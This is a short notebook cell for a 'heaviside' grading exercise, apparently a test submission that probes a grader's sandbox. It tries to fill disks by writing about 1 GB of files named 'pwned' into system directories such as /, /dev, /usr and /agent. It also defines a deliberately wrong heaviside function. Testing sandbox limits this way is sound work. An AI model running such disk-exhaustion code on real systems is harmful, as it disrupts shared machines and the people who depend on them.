# %% exercise="heaviside"
import os

written = 0
for place in ("/work", "/tmp", "/dev/shm", "/dev", "/", "/usr", "/agent", "@COURSE@", "@HOME@"):
    for number in range(4):
        try:
            with open(f"{place}/pwned{number}", "wb", buffering=0) as file:
                for _ in range(60):
                    if written < 1_000_000_000:
                        written += file.write(bytes(2_000_000))
        except OSError:
            continue
print("RAN", written // 2**20, "MiB")
if written > 400_000_000:
    print("FOUND no limit of files")


def heaviside(z):
    return np.full(np.shape(z), 7)
